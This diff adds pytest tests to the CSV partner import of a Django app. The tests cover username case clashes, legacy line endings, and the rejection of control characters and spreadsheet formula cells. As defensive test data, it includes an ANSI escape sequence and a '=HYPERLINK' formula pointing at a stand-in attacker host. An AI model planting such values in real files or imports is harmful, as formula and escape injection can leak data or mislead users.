@@ -299,6 +299,18 @@ def test_an_admin_email_already_used_by_an_account_is_refused(db, tmp_path):
     assert not Partner.objects.filter(siren=SIREN_A).exists()
 
 
+def test_an_account_whose_username_differs_only_by_case_is_refused_too(db, tmp_path):
+    UserFactory(username="Claire.Morel@Kervenic.example", email="claire@elsewhere.example")
+
+    err = _refused(_write(tmp_path, [HEADER, ROW_A]))
+
+    assert (
+        "ligne 2, admin_email : un compte utilise déjà l'adresse claire.morel@kervenic.example"
+        in err
+    )
+    assert not Partner.objects.filter(siren=SIREN_A).exists()
+
+
 def test_a_missing_or_unknown_column_is_reported_on_line_1(db, tmp_path):
     header = HEADER.replace("former_programme", "programme")
 
@@ -392,3 +404,108 @@ def test_parsing_touches_no_database() -> None:
     assert parsed.errors == ()
     assert [r.line for r in parsed.rows] == [2, 4]
     assert parsed.delimiter == ";"
+
+
+# --- Line endings, control characters and formulas ------------------------------------------
+
+
+def test_bare_cr_line_endings_are_read_like_any_other(db, tmp_path):
+    path = tmp_path / "legacy.csv"
+    path.write_bytes("\r".join([HEADER, ROW_A, "", ROW_B, ""]).encode())
+
+    _import(path)
+
+    assert set(Partner.objects.values_list("siren", flat=True)) == {SIREN_A, SIREN_B}
+
+
+def test_a_latin1_file_with_bare_cr_line_endings_names_the_line_of_the_bad_character(db, tmp_path):
+    path = tmp_path / "legacy.csv"
+    plain = "Sans accent;" + ROW_B.split(";", 1)[1]
+    path.write_bytes("\r".join([HEADER, plain, ROW_A, ""]).encode("cp1252"))
+
+    assert "ligne 3 : le fichier n'est pas en UTF-8" in _refused(path)
+
+
+@pytest.mark.parametrize(
+    ("row", "column", "character"),
+    [
+        (ROW_B.replace("Tarvénac IT", "Tarvénac\x00 IT"), "name", "U+0000"),
+        (ROW_B.replace(";Luc;", ";L\x1b[2Juc;"), "admin_first_name", "U+001B"),
+        (ROW_B.replace(";Garnier", ";Garnier\x7f"), "admin_last_name", "U+007F"),
+        (ROW_B.replace(";psp;", ";p\x9bsp;"), "former_programme", "U+009B"),
+    ],
+)
+def test_a_control_character_in_a_cell_is_refused_on_its_line_and_never_echoed(
+    db, tmp_path, row, column, character
+):
+    err = _refused(_write(tmp_path, [HEADER, ROW_A, row, ROW_C]))
+
+    assert (
+        f"ligne 3, {column} : la cellule contient un caractère de contrôle ({character}) : "
+        "retirez-le"
+    ) in err
+    assert "1 erreur(s)" in err
+    assert not any(ch in err for ch in "\x00\x1b\x7f\x9b")
+    assert Partner.objects.count() == 0
+
+
+def test_a_control_character_in_a_repeated_cell_is_not_echoed_either(db, tmp_path):
+    email = "l.gar\x1b[2J\x07nier@tarvenac.example"
+    row = ROW_B.replace("luc.garnier@tarvenac.example", email)
+
+    err = _refused(_write(tmp_path, [HEADER, row, row.replace(SIREN_B, SIREN_C)]))
+
+    assert "ligne 3, admin_email : la cellule contient un caractère de contrôle (U+001B)" in err
+    assert "\x1b" not in err
+    assert "\x07" not in err
+
+
+@pytest.mark.parametrize(
+    ("row", "column", "cell"),
+    [
+        (
+            ROW_B.replace("Tarvénac IT", '"=HYPERLINK(""http://evil.example/?"",""x"")"'),
+            "name",
+            '=HYPERLINK("http://evil.example/?","x")',
+        ),
+        (ROW_B.replace(";Luc;", ";@SUM(A1);"), "admin_first_name", "@SUM(A1)"),
+        (ROW_B.replace(";Garnier", ";+Garnier"), "admin_last_name", "+Garnier"),
+        (ROW_B.replace(";Garnier", ";-2+3"), "admin_last_name", "-2+3"),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_refused_on_its_line(
+    db, tmp_path, row, column, cell
+):
+    err = _refused(_write(tmp_path, [HEADER, ROW_A, row, ROW_C]))
+
+    assert (
+        f"ligne 3, {column} : la cellule « {cell} » commence par =, +, - ou @ : un tableur "
+        "l'exécuterait comme une formule ; retirez ce caractère"
+    ) in err
+    assert "1 erreur(s)" in err
+    assert Partner.objects.count() == 0
+
+
+def test_the_formula_message_is_in_english_in_an_english_portal(db, tmp_path, settings):
+    settings.LANGUAGE_CODE = "en"
+
+    err = _refused(_write(tmp_path, [HEADER, ROW_B.replace(";Luc;", ";=1+1;")]))
+
+    assert (
+        "line 2, admin_first_name : the cell “=1+1” begins with =, +, - or @: a spreadsheet "
+        "would run it as a formula; remove that character"
+    ) in err
+
+
+def test_a_negative_amount_keeps_its_own_message(db, tmp_path):
+    err = _refused(_write(tmp_path, [HEADER, ROW_B.replace(";9999.99;", ";-12;")]))
+
+    assert "ligne 2, declared_revenue_eur : le montant ne peut pas être négatif" in err
+    assert "formule" not in err
+
+
+def test_a_cell_too_large_for_the_csv_reader_is_reported_not_a_crash(db, tmp_path):
+    err = _refused(_write(tmp_path, [HEADER, ROW_A, ROW_B.replace("Luc", "x" * 200_000)]))
+
+    assert "ligne 3 : le fichier n'est pas un CSV lisible" in err
+    assert Partner.objects.count() == 0
